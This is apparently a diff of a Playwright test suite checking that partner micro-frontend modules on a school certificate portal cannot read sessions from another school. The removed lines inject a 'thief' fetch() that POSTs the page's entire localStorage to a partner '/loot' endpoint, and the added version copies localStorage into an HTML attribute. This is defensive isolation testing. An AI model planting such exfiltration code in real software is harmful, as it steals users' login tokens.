@@ -2,26 +2,27 @@ import type { Page } from '@playwright/test'
 
 import { FAULTS, type Fault } from '../fixtures/faults'
 import { pageHeading, SCRIPT_FAULTS } from '../fixtures/modules'
-import { PARTNER_RELEASE, PARTNER_TENANT, partnerStory, type Partner, type SourceChange } from '../fixtures/partner'
-import { fillPassword, LEARNER, personMenu, signInForm } from '../fixtures/sign-in'
+import {
+  assign,
+  LOOKUP,
+  PARTNER_RELEASE,
+  PARTNER_TENANT,
+  partnerStory,
+  THEIRS,
+  type Partner,
+  type SourceChange,
+} from '../fixtures/partner'
+import { signInForToken } from '../fixtures/sign-in'
 import { expect } from '../fixtures/story'
 
 // One portal for all of them; each says what is assigned.
 partnerStory.describe.configure({ mode: 'default' })
 partnerStory.beforeEach(({ partner }) => assign(partner, PARTNER_RELEASE))
 
-const THEIRS = '证书登记簿'
 const OWN = '证书查询'
-const LOOKUP = '/query_pc/kingdee'
 const ENTERED = { name: '林小满', number: 'S200012026000001', says: '林小满的证书在册' }
 const TAKEN_BACK = { name: '唐一鸣', number: 'S200012026000005', says: '唐一鸣的证书已被学校撤销' }
 const MISSING = { name: '林大满', number: 'S200012026000001', says: '登记簿中没有这张证书' }
-
-async function assign({ operator, origin }: Partner, release: string): Promise<void> {
-  await operator('partner:allow', PARTNER_TENANT, origin)
-  const said = await operator('assign', 'mfe-certificate', release, '--tenant', PARTNER_TENANT)
-  expect(said).toBe(`${PARTNER_TENANT} gets mfe-certificate ${release} from the next page on.`)
-}
 
 async function takeOut({ operator }: Partner): Promise<void> {
   const said = await operator('unassign', 'mfe-certificate', '--tenant', PARTNER_TENANT)
@@ -83,36 +84,28 @@ partnerStory('every other school keeps its own lookup', async ({ page, school, p
   expect(asked).toEqual([])
 })
 
-/** Posts whatever the page's origin keeps to the partner's server. */
-const thief = ({ origin }: Partner): SourceChange => ({
+const LOOT = 'data-loot'
+
+/** Gathers whatever the page's origin keeps. */
+const THIEF: SourceChange = {
   file: 'src/lookup/LookupPage.tsx',
   text: 'const t = useT()',
-  by: `void fetch('${origin}/loot', { method: 'POST', body: JSON.stringify({ ...localStorage }) }).catch(() => undefined)\n  const t = useT()`,
-})
+  by: `document.documentElement.setAttribute('${LOOT}', JSON.stringify({ ...localStorage }))\n  const t = useT()`,
+}
 
 partnerStory(
   'a partner’s module gets nothing of who is signed in at another school, whatever the address names',
-  async ({ page, school, partner, problems }) => {
-    problems.allow(/blocked by CORS policy|Failed to load resource/)
-    await assign(partner, await partner.release('1.4.0', thief(partner)))
-    const loot: string[] = []
-    page.on('request', (request) => {
-      if (request.url() === `${partner.origin}/loot`) loot.push(request.postData() ?? '')
-    })
+  async ({ page, school, partner }) => {
+    await assign(partner, await partner.release(THIEF))
 
-    await page.goto(school('hailan', '/login'))
-    await fillPassword(page, LEARNER)
-    await signInForm(page).submit.click()
-    await expect(personMenu(page)).toBeVisible()
-    const kept = await page.evaluate(() => JSON.stringify({ ...localStorage }))
-    const token = /\\"token\\":\\"([^"\\]{20,})/.exec(kept)?.[1] ?? ''
-    expect(token).not.toBe('')
+    const token = await signInForToken(page, school('hailan', '/login'))
 
     await page.goto(school('hailan', `${LOOKUP}?schoolId=${PARTNER_TENANT}`))
     await expect(page).toHaveURL(school('kingdee', `${LOOKUP}?schoolId=${PARTNER_TENANT}`))
     await expect(pageHeading(page, THEIRS)).toBeVisible()
-    await expect.poll(() => loot.length, 'at its own host the module runs').toBeGreaterThan(0)
-    expect(loot.join('')).not.toContain(token)
+    const html = page.locator('html')
+    await expect(html, 'at its own host the module runs').toHaveAttribute(LOOT, /campus/)
+    expect(await html.getAttribute(LOOT)).not.toContain(token)
 
     // A host of nobody keeps the sessions of whoever is named there: nothing from outside runs.
     const asked = askedOf(page, partner)
@@ -164,20 +157,14 @@ for (const [what, file] of [
 
 const ON_PURPOSE = 'misbehaves on purpose'
 const THROW = `if (Date.now() > 0) throw new Error('${ON_PURPOSE}')`
-const MISBEHAVIOURS: readonly [what: string, version: string, change: SourceChange][] = [
-  [
-    'throws while it starts',
-    '1.1.0',
-    { file: 'src/module.tsx', text: 'export default', by: `${THROW}\n\nexport default` },
-  ],
+const MISBEHAVIOURS: readonly [what: string, change: SourceChange][] = [
+  ['throws while it starts', { file: 'src/module.tsx', text: 'export default', by: `${THROW}\n\nexport default` }],
   [
     'throws while its page is drawn',
-    '1.2.0',
     { file: 'src/lookup/LookupPage.tsx', text: 'const t = useT()', by: `${THROW}\n  const t = useT()` },
   ],
   [
     'speaks another contract than it says',
-    '1.3.0',
     {
       file: 'src/module.tsx',
       text: "import config from '../module.config'",
@@ -186,22 +173,23 @@ const MISBEHAVIOURS: readonly [what: string, version: string, change: SourceChan
   ],
 ]
 
-for (const [what, version, change] of MISBEHAVIOURS) {
+for (const [what, change] of MISBEHAVIOURS) {
   partnerStory(
     `a partner’s module that ${what}: the school’s own lookup stands there`,
     async ({ page, school, partner, problems }) => {
       problems.allow(new RegExp(ON_PURPOSE))
-      await assign(partner, await partner.release(version, change))
+      const release = await partner.release(change)
+      await assign(partner, release)
       const asked = askedOf(page, partner)
       await expectOwnLookup(page, school('kingdee', LOOKUP))
-      expect(asked.some((address) => address.includes(`/${version}/`))).toBe(true)
+      expect(asked.some((address) => address.includes(`/${release.split('+', 1)[0]}/`))).toBe(true)
     },
   )
 }
 
 partnerStory('a module built for another contract is not published', async ({ partner }) => {
   const change = { file: 'module.config.ts', text: 'contract: MODULE_CONTRACT', by: "contract: '2.0'" }
-  await expect(partner.release('2.0.0', change)).rejects.toThrow('is built for contract 2.0, this site speaks 1.')
+  await expect(partner.release(change)).rejects.toThrow('is built for contract 2.0, this site speaks 1.')
 })
 
 partnerStory(
